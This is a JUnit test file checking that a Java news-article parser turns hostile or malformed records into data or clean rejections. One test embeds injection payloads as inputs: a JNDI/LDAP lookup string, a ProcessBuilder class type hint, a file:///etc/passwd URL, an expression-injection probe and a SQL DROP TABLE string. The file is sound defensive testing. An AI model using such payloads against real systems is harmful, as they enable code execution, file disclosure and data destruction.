package org.conflicttally.article;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Records an attacker or a broken scraper could write, through the parsers: each becomes an article or a
 * reject with a clear reason, and nothing throws. (The job-level counterpart is HostileCorpusTest.)
 */
class HostileRecordsTest {
    private final JsonArticleParser parser = new JsonArticleParser(ArticleFields.DEFAULTS);

    private static String article(String published) {
        return "{\"id\": \"a\", \"published\": \"" + published + "\", \"text\": \"Two killed.\"}";
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "0000-01-01   | implausible publication date: 0000-01-01 (accepted: years 1900 to 2100)",
        "9999-12-31   | implausible publication date: 9999-12-31 (accepted: years 1900 to 2100)",
        "1 March 1899 | implausible publication date: 1899-03-01 (accepted: years 1900 to 2100)",
        "2020-02-30   | unparseable date: \"2020-02-30\"",
        "99999-01-01  | unparseable date: \"99999-01-01\"",
    })
    void implausibleDatesAreRejectedWithTheAcceptedRange(String date, String reason) {
        Rejection r = assertInstanceOf(Rejection.class, parser.parse("in.jsonl", 1, article(date)));
        assertEquals(reason, r.reason());
    }

    @Test
    void theDateLineOfATxtFileToo() {
        byte[] bytes = "Title\n\n1 January 0000\nTwo killed.".getBytes(StandardCharsets.UTF_8);
        Rejection r = assertInstanceOf(Rejection.class, TxtArticleParser.parse("y0.txt", bytes));
        assertEquals("implausible publication date: 0000-01-01 (accepted: years 1900 to 2100)", r.reason());
    }

    @Test
    void deeplyNestedJsonIsARejectNotAStackOverflow() {
        int depth = 100_000;
        String json = "{\"id\": \"deep\", \"x\": " + "[".repeat(depth) + "]".repeat(depth) + "}";
        Rejection r = assertInstanceOf(Rejection.class, parser.parse("in.jsonl", 4, json));
        assertEquals("JSON over limits", Rejection.kindOf(r.reason()), r.reason());
        assertTrue(r.reason().contains("nesting depth"), r.reason());
        // Just under the limit still reads.
        String nested = "{\"id\": \"ok\", \"published\": \"2020-02-27\", \"text\": \"T\", \"x\": "
                + "[".repeat(JsonArticleParser.MAX_NESTING_DEPTH - 1) + "]".repeat(JsonArticleParser.MAX_NESTING_DEPTH - 1) + "}";
        assertInstanceOf(ParseResult.Accepted.class, parser.parse("in.jsonl", 5, nested));
    }

    @Test
    void absurdNumbersInTheJsonItselfAreRejectsOrData() {
        String longNumber = "{\"id\": " + "9".repeat(5000) + ", \"published\": \"2020-02-27\", \"text\": \"T\"}";
        Rejection r = assertInstanceOf(Rejection.class, parser.parse("in.jsonl", 1, longNumber));
        assertEquals("JSON over limits", Rejection.kindOf(r.reason()), r.reason());
        // A huge exponent is a double (Infinity), an id like any other, never evaluated.
        Article a = assertInstanceOf(ParseResult.Accepted.class,
                parser.parse("in.jsonl", 2, "{\"id\": 1e400, \"published\": \"2020-02-27\", \"text\": \"T\"}")).article();
        assertEquals("Infinity", a.id());
    }

    @Test
    void typeHintsAndExpressionsAreDataOnly() {
        String json = "{\"@class\": \"java.lang.ProcessBuilder\", \"id\": \"${jndi:ldap://x/a}\", "
                + "\"url\": \"file:///etc/passwd\", \"title\": \"#{7*7}\", \"published\": \"2020-02-27\", "
                + "\"text\": \"'; DROP TABLE facts; -- Two killed.\"}";
        Article a = assertInstanceOf(ParseResult.Accepted.class, parser.parse("in.jsonl", 1, json)).article();
        assertEquals(new Article("${jndi:ldap://x/a}", null, "file:///etc/passwd", "#{7*7}", LocalDate.of(2020, 2, 27),
                "'; DROP TABLE facts; -- Two killed."), a);
    }

    @Test
    void windows1252IsReadWithAWarning() {
        byte[] bytes = "{\"id\": \"w\", \"published\": \"2020-02-27\", \"text\": \"\u201cTwo\u201d killed in Alep \u2013 caf\u00e9\"}"
                .getBytes(Charset.forName("windows-1252"));
        ParseResult.Accepted a = assertInstanceOf(ParseResult.Accepted.class, parser.parse("in.jsonl", 9, bytes, bytes.length));
        assertEquals("\u201cTwo\u201d killed in Alep \u2013 caf\u00e9", a.article().text());
        assertEquals(List.of("not UTF-8 (byte 0x93 at byte 48): read as Windows-1252"), a.warnings());
    }

    @Test
    void utf8IsReadWithoutWarning() {
        byte[] bytes = article("2020-02-27").replace("Two", "\u0627\u062b\u0646\u0627\u0646 Two").getBytes(StandardCharsets.UTF_8);
        ParseResult.Accepted a = assertInstanceOf(ParseResult.Accepted.class, parser.parse("in.jsonl", 1, bytes, bytes.length));
        assertEquals(List.of(), a.warnings());
    }

    @Test
    void otherLegacyEncodingsBinaryAndMixedBytesAreRejected() {
        byte[] cyrillic = article("2020-02-27").replace("Two killed.", "\u0414\u0432\u043e\u0435 \u0443\u0431\u0438\u0442\u044b \u0432 \u0418\u0434\u043b\u0438\u0431\u0435 \u0441\u0435\u0433\u043e\u0434\u043d\u044f \u0443\u0442\u0440\u043e\u043c \u0438 \u0432\u0435\u0447\u0435\u0440\u043e\u043c")
                .getBytes(Charset.forName("windows-1251"));
        assertReason("not UTF-8: invalid byte sequence at byte 48, and 38% of the bytes are above 0x7F: "
                + "not Western text in Windows-1252 either", cyrillic);

        byte[] binary = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13};
        assertReason("not text: 4 of 12 bytes are control characters (3 NUL), over 1 in 10, the first 0x1A at byte 6: "
                + "binary data or UTF-16", binary);

        byte[] mixed = "{\"text\": \"caf\u00e9 \"}".getBytes(StandardCharsets.UTF_8);
        byte[] withStray = new byte[mixed.length + 1];
        System.arraycopy(mixed, 0, withStray, 0, mixed.length);
        withStray[mixed.length] = (byte) 0xE9;
        assertReason("not UTF-8: invalid byte sequence at byte " + mixed.length + " in UTF-8 text (mixed encodings)", withStray);

        byte[] utf16 = article("2020-02-27").getBytes(StandardCharsets.UTF_16LE);
        assertReason("not text: 61 of 122 characters are control characters (61 NUL), over 1 in 10, the first 0x00 at "
                + "character 1: binary data or UTF-16", utf16);
    }

    @Test
    void htmlInATxtFileIsAnArticleOnlyWithADateLine() {
        byte[] page = "<!DOCTYPE html>\n<html><head><title>x</title></head>\n<body><p>Two killed</p></body></html>\n"
                .getBytes(StandardCharsets.UTF_8);
        Rejection r = assertInstanceOf(Rejection.class, TxtArticleParser.parse("page.txt", page));
        assertEquals("no publication date", Rejection.kindOf(r.reason()));
        assertTrue(r.excerpt().startsWith("<!DOCTYPE html>"), r.excerpt());
    }

    private void assertReason(String reason, byte[] bytes) {
        Rejection r = assertInstanceOf(Rejection.class, parser.parse("in.jsonl", 1, bytes, bytes.length));
        assertEquals(reason, r.reason());
        Rejection t = assertInstanceOf(Rejection.class, TxtArticleParser.parse("in.txt", bytes));
        assertEquals(reason, t.reason());
    }
}
